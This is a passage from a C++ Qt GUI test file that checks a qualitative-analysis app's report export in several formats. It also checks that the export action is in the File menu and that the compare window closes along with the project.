            QVERIFY2(failedSpy.isEmpty(), qPrintable(failedSpy.isEmpty() ? QString() : failedSpy.first().first().toString()));
            QCOMPARE(saved.size(), 1);
            QFile file(path);
            QVERIFY2(file.open(QIODevice::ReadOnly), qPrintable(path));
            const QByteArray bytes = file.readAll();
            QVERIFY(!bytes.isEmpty());
            QVERIFY(!QFile::exists(path + QStringLiteral(".part")));
            switch (format) {
            case ReportFormat::Html: {
                const QString html = QString::fromUtf8(bytes);
                for (const QString &excerpt : {QStringLiteral("Exam pressure is high."), QStringLiteral("Workload"),
                                               QStringLiteral("Workload grows every term."), QStringLiteral("bj1"),
                                               QStringLiteral("km1")})
                    QVERIFY2(html.contains(excerpt), qPrintable(excerpt));
                break;
            }
            case ReportFormat::Csv: {
                QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
                const QString csv = QString::fromUtf8(bytes);
                QVERIFY(csv.count(QStringLiteral("\r\n")) >= 6);   // a header and five excerpts
                QVERIFY(csv.contains(QStringLiteral("Exam pressure is high.")));
                QVERIFY(csv.contains(QStringLiteral("Workload grows every term.")));
                break;
            }
            case ReportFormat::Odt:
            case ReportFormat::Docx: QVERIFY(bytes.startsWith("PK")); break;
            case ReportFormat::Pdf: QVERIFY(bytes.startsWith("%PDF")); break;
            case ReportFormat::Markdown: QVERIFY(QString::fromUtf8(bytes).contains(QStringLiteral("Exam pressure is high."))); break;
            }
        }
    }

    void reportActionIsInTheFileMenu()
    {
        auto *action = m_window->findChild<QAction *>(QStringLiteral("exportReportAction"));
        QVERIFY(action);
        QVERIFY(action->isEnabled());
    }

    void compareWindowClosesWithTheProject()
    {
        QPointer<CompareWindow> compare = m_compare;
        m_window->closeProject();
        QVERIFY(compare.isNull());
        m_compare = nullptr;
    }
};

QTEST_MAIN(TestCompareGui)
#include "test_compare_gui.moc"
